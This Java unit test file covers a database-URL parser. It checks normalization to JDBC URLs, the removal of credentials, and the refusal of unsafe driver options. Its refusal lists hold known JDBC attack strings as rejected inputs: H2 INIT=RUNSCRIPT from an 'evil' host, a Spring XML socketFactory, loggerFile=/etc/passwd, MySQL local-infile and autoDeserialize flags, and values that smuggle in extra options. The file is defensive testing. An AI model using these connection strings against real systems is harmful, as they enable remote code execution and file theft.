package dev.coppice.cli.connect;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.coppice.project.Engine;
import dev.coppice.schema.Problem;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class DatabaseUrlsTests {

    private static final Path FOLDER = Path.of("/data");

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
                    sqlite:shop.db                              | jdbc:sqlite:/data/shop.db
                    jdbc:sqlite:/data/shop.db                   | jdbc:sqlite:/data/shop.db
                    SQLITE:../other/shop.db                     | jdbc:sqlite:/other/shop.db
                    jdbc:sqlite:a.db?busy_timeout=5000          | jdbc:sqlite:/data/a.db?busy_timeout=5000
                    h2:./shop                                   | jdbc:h2:file:/data/shop
                    h2:shop.mv.db                               | jdbc:h2:file:/data/shop
                    jdbc:h2:file:/data/shop;MODE=PostgreSQL     | jdbc:h2:file:/data/shop;MODE=PostgreSQL
                    jdbc:h2:/data/shop;mode=MySQL;schema=A      | jdbc:h2:file:/data/shop;MODE=MySQL;SCHEMA=A
                    postgresql://db.example.com/shop            | jdbc:postgresql://db.example.com/shop
                    postgres://localhost:5433/shop              | jdbc:postgresql://localhost:5433/shop
                    postgresql+psycopg2://localhost/shop        | jdbc:postgresql://localhost/shop
                    jdbc:postgresql://[::1]:5432/shop?sslmode=require | jdbc:postgresql://[::1]:5432/shop?sslmode=require
                    postgresql:///shop                          | jdbc:postgresql://localhost/shop
                    mysql://db/shop                             | jdbc:mariadb://db/shop
                    mysql+pymysql://db/shop                     | jdbc:mariadb://db/shop
                    jdbc:mysql://db:3307/shop                   | jdbc:mariadb://db:3307/shop
                    mariadb://db/my%20shop?sslMode=trust        | jdbc:mariadb://db/my%20shop?sslMode=trust
                    """)
    void formsThatPeopleTypeBecomeTheDriversUrl(String typed, String jdbc) {
        assertThat(parse(typed).url().jdbc()).isEqualTo(jdbc);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
                    postgresql://ann:s3cret@host/shop               | ann   | s3cret
                    postgresql://ann@host/shop                      | ann   |
                    jdbc:postgresql://host/shop?user=ann&password=s3cret | ann | s3cret
                    mysql://ann:p%40ss%2Fword%25@host/shop          | ann   | p@ss/word%
                    mysql://ann:p@ss@host/shop                      | ann   | p@ss
                    postgresql://ann:a/b@host/shop                  | ann   | a/b
                    postgresql://ann:a?b@host/shop                  | ann   | a?b
                    postgresql://ann:a+b@host/shop                  | ann   | a+b
                    jdbc:h2:./shop;USER=ann;PASSWORD=s3cret         | ann   | s3cret
                    postgresql://host/shop?password=a%26b           |       | a&b
                    """)
    void userAndPasswordAreTakenOut(String typed, String user, String password) {
        DatabaseUrls.Parsed parsed = parse(typed);

        assertThat(parsed.credentials().user()).isEqualTo(user);
        assertThat(parsed.credentials().password()).isEqualTo(password == null ? null : new Secret(password));
        assertThat(parsed.url().jdbc())
                .doesNotContain("s3cret")
                .doesNotContain("ann")
                .doesNotContain("password");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "postgresql://h/d?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "postgresql://h/d?socketFactoryArg=http://evil/x.xml",
                "postgresql://h/d?sslfactory=x",
                "postgresql://h/d?sslpasswordcallback=x",
                "postgresql://h/d?authenticationPluginClassName=x",
                "postgresql://h/d?loggerFile=/etc/passwd",
                "postgresql://h/d?jaasApplicationName=x",
                "postgresql://h/d?sslmode=require&socket%46actory=x",
                "postgresql://h/d?options=-c%20search_path=x",
                "mysql://h/d?allowLoadLocalInfile=true",
                "mysql://h/d?allowLocalInfile=true",
                "mysql://h/d?allowUrlInLocalInfile=true",
                "mysql://h/d?autoDeserialize=true",
                "mysql://h/d?queryInterceptors=x",
                "mysql://h/d?statementInterceptors=x",
                "mariadb://h/d?socketFactory=x",
                "mariadb://h/d?allowMultiQueries=true",
                "mariadb://h/d?initSql=drop%20table%20x",
                "mariadb://h/d?sessionVariables=x",
                "mariadb://h/d?credentialType=x",
                "mariadb://h/d?keyStore=x",
                "jdbc:h2:./a;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:./a;init=CREATE ALIAS x",
                "jdbc:h2:./a;TRACE_LEVEL_FILE=3",
                "jdbc:h2:./a;AUTO_SERVER=TRUE",
                "jdbc:h2:./a;DATABASE_EVENT_LISTENER='x'",
                "jdbc:h2:./a;MODE=MySQL;INIT=x",
                "jdbc:h2:./a;JAVA_OBJECT_SERIALIZER='x'",
                "jdbc:sqlite:a.db?enable_load_extension=true",
                "jdbc:sqlite:a.db?load_extension=x.so",
                "jdbc:sqlite:a.db?password=1&key=2",
                "jdbc:sqlite:a.db?open_mode=6",
            })
    void optionsThatAreNotListedAreRefusedByName(String typed) {
        Problem problem = refusal(typed);

        assertThat(problem).hasMessageContaining("is not passed on to the");
        assertThat(problem.remedy()).startsWith("Leave it out; possible are ");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:./a;MODE=MySQL\\;INIT=x",
                "postgresql://h/d?sslmode=a%3Bb",
                "postgresql://h/d?ApplicationName=a%0Ab",
            })
    void valuesCannotSmuggleInFurtherOptions(String typed) {
        assertThat(refusal(typed)).isNotNull();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:tcp://host/shop",
                "jdbc:h2:ssl://host/shop",
                "jdbc:h2:mem:shop",
                "jdbc:h2:zip:~/x.zip!/shop",
                "jdbc:h2:split:shop",
                "jdbc:h2:nioMapped:shop",
                "jdbc:h2:file:split:shop",
                "jdbc:h2:classpath:shop",
                "jdbc:sqlite::memory:",
                "jdbc:sqlite:",
                "jdbc:sqlite::resource:http://evil/x.db",
                "jdbc:sqlite:file:shop.db?vfs=x",
                "sqlite:///shop.db",
            })
    void onlyFilesAreOpenedInThisProcess(String typed) {
        assertThat(refusal(typed).remedy()).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"shop", "", "oracle:thin:@host:1521/x", "jdbc:sqlserver://host", "jdbc:derby:x", "http://x/y"})
    void whatIsNoKnownEngineIsRefusedWithTheKnownForms(String typed) {
        assertThat(refusal(typed).remedy()).contains("sqlite:FILE", "postgresql://user@host:port/database");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "postgresql://ann:topsecret@host",
                "postgresql://ann:topsecret@ho st/shop",
                "postgresql://ann:topsecret@host:99999/shop",
                "postgresql://ann:topsecret@host,other/shop",
                "postgresql://ann:topsecret@host/shop?socketFactory=x",
                "postgresql:ann:topsecret@host/shop",
                "oracle://ann:topsecret@host/shop",
                "jdbc:h2:tcp://host/x;PASSWORD=topsecret",
                "jdbc:h2:./x;INIT=1;PASSWORD=topsecret",
                "postgresql://host/shop?password=topsecret&x=1",
                " //ann:topsecret@host/shop",
            })
    void noRefusalRepeatsThePassword(String typed) {
        Problem problem = refusal(typed);

        assertThat(problem.getMessage() + problem.remedy()).doesNotContain("topsecret");
    }

    @Test
    void parsedUrlsPrintWithoutThePassword() {
        assertThat(parse("postgresql://ann:topsecret@host/shop").toString()).doesNotContain("topsecret");
    }

    @ParameterizedTest
    @CsvSource({
        "sqlite:/data/northwind.sqlite,northwind",
        "sqlite:/data/northwind,northwind",
        "h2:/data/my.shop.mv.db,my.shop",
        "postgresql://host/Sales%20Data,Sales Data"
    })
    void databaseIsCalledAsItsFileOrAsOnTheServer(String typed, String name) {
        assertThat(parse(typed).url().name()).isEqualTo(name);
    }

    @Test
    void mysqlIsSpokenToByTheDriverOfMariadb() {
        assertThat(parse("mysql://host/shop").url().engine()).isEqualTo(Engine.MARIADB);
    }

    private static DatabaseUrls.Parsed parse(String typed) {
        return new DatabaseUrls(FOLDER).parse(typed);
    }

    private static Problem refusal(String typed) {
        Problem problem = catchThrowableOfType(Problem.class, () -> parse(typed));
        assertThat(problem).as(typed).isNotNull();
        return problem;
    }
}
